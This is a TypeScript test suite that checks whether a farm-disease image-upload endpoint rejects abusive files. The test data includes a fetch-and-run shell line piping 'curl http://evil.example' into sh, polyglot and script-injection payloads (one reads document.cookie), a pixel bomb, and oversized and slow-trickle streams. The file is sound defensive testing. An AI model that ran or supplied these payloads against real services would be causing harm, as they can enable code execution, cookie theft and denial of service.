import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, CSRF_COOKIE, CSRF_HEADER, errorOf, SESSION_COOKIE, signUp, TestClient } from '../test/helpers';
import { multipart, syntheticLeaf } from '../test/images';

// Real HTTP on a real port: streams, slow senders and 50 MB bodies behave differently from app.inject.
let app: FastifyInstance;
let base: string;
let uploadTmp: string;
let cookies: string;
let xsrf: string;
/** What other tools had put in the temp dir before any upload (this sandbox's own session files, say). */
let tmpBefore: string[];
const originalTmp = process.env.TMPDIR;

beforeAll(async () => {
  // Anything the server writes to the temp dir while these uploads run lands here, where it can be counted.
  uploadTmp = await mkdtemp(join(tmpdir(), 'farmsight-uploads-'));
  process.env.TMPDIR = uploadTmp;
  app = await createTestApp();
  base = await app.listen({ port: 0, host: '127.0.0.1' });
  const farmer = new TestClient(app, { remoteAddress: '10.30.0.1' });
  await signUp(farmer);
  xsrf = farmer.cookie(CSRF_COOKIE)!;
  cookies = `${SESSION_COOKIE}=${farmer.sessionToken}; ${CSRF_COOKIE}=${xsrf}`;
  await upload(await syntheticLeaf());
  tmpBefore = await readdir(uploadTmp);
});

afterAll(async () => {
  await app?.close();
  process.env.TMPDIR = originalTmp;
  await rm(uploadTmp, { recursive: true, force: true });
});

const headers = (contentType: string) => ({ cookie: cookies, [CSRF_HEADER.toLowerCase()]: xsrf, 'content-type': contentType });

async function upload(data: Buffer, filename = 'leaf.jpg', contentType = 'image/jpeg') {
  const body = multipart([{ name: 'image', data, filename, contentType }]);
  const response = await fetch(`${base}/api/disease/predict/`, { method: 'POST', headers: headers(body.contentType), body: body.payload });
  return { status: response.status, json: (await response.json()) as { error?: { code: string; message: string }; prediction?: string } };
}

/** Sends the head of a multipart upload, then feeds `next()` chunks until the server answers; resolves with the answer. */
function streamUpload(next: (sent: number) => Promise<Buffer | undefined>): Promise<{ status: number; body: string }> {
  const boundary = 'farmsight-stream-boundary';
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = httpRequest(`${base}/api/disease/predict/`, {
      method: 'POST',
      headers: { ...headers(`multipart/form-data; boundary=${boundary}`), 'transfer-encoding': 'chunked' },
    });
    req.on('response', (res) => {
      answered = true;
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    // After the answer the server may close the socket under a sender that is still writing.
    req.on('error', (error) => {
      if (!answered) reject(error);
    });
    req.write(`--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="leaf.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`);
    req.write(Buffer.from([0xff, 0xd8, 0xff, 0xe0]));
    let sent = 0;
    const pump = async () => {
      while (!answered && !req.destroyed) {
        const chunk = await next(sent);
        if (!chunk) break;
        sent += chunk.length;
        if (!req.write(chunk)) await new Promise((drained) => req.once('drain', drained));
      }
      if (!answered && !req.destroyed) req.end(`\r\n--${boundary}--\r\n`);
    };
    pump().catch(() => undefined);
  });
}

describe('upload abuse', () => {
  it('answers 415 for a script renamed leaf.jpg and sent as image/jpeg (the bytes decide, not the name)', async () => {
    const { status, json } = await upload(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n<script>alert(1)</script>\n'));
    expect(status).toBe(415);
    expect(json.error?.code).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it.each([
    ['a GIF/JavaScript polyglot', Buffer.from('GIF89a/*\x00\x00\x00\x00*/=1;alert(document.cookie);//', 'latin1')],
    [
      'HTML behind a PNG signature',
      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('<html><script>alert(1)</script></html>')]),
    ],
    [
      'a JPEG marker followed by a script',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>fetch("/api/auth/user-info")</script>')]),
    ],
    ['a PDF with a JPEG header', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xdb]), Buffer.from('%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >> endobj')])],
  ])('answers 422 for %s: it claims to be an image but does not decode as one', async (_name, bytes) => {
    const { status, json } = await upload(bytes);
    expect(status).toBe(422);
    expect(json.error?.code).toBe('UNPROCESSABLE');
  });

  it('decodes a real photo with an archive appended as the photo; the extra bytes are never stored, served or run', async () => {
    // Phones append data to JPEGs too (motion photos), so trailing bytes alone are no reason to refuse a farmer's photo.
    const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(64, 1)]);
    const { status, json } = await upload(Buffer.concat([await syntheticLeaf(), zip]));
    expect(status).toBe(200);
    expect(typeof json.prediction).toBe('string');
  });

  it('answers 422 for a pixel bomb (a 40-byte PNG header claiming 60,000 x 60,000 pixels)', async () => {
    const png = Buffer.from(
      await sharp({ create: { width: 4, height: 4, channels: 3, background: '#3f8f2f' } })
        .png()
        .toBuffer(),
    );
    png.writeUInt32BE(60_000, 16);
    png.writeUInt32BE(60_000, 20);
    png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
    const { status, json } = await upload(png, 'leaf.png', 'image/png');
    expect(status).toBe(422);
    expect(json.error?.message).toBe('The image has too many pixels (over 50 megapixels). Please upload a smaller photo.');
  });

  it('answers a 50 MB stream with 413 once it passes 10 MB, without waiting for the rest', async () => {
    const chunk = Buffer.alloc(1024 * 1024, 0x41);
    const { status, body } = await streamUpload(async (sent) => (sent < 50 * 1024 * 1024 ? chunk : undefined));
    expect(status).toBe(413);
    expect(JSON.parse(body).error.code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('answers a trickling upload (a byte every 200 ms) with 408 once it has averaged under 2 KB/s for 10 s', async () => {
    const { status, body } = await streamUpload(async () => {
      await new Promise((resolve) => setTimeout(resolve, 200));
      return Buffer.from([0x00]);
    });
    expect(status).toBe(408);
    expect(JSON.parse(body).error).toEqual({ code: 'REQUEST_TIMEOUT', message: 'The photo took too long to upload. Check the connection and try again.' });
  });

  it('keeps serving after the abuse, and left no temporary files behind', async () => {
    const { status } = await upload(await syntheticLeaf());
    expect(status).toBe(200);
    expect(await readdir(uploadTmp)).toEqual(tmpBefore);
    expect(errorOf(await app.inject({ method: 'GET', url: '/api/disease/predict/' })).code).toBe('NOT_FOUND');
  });
});
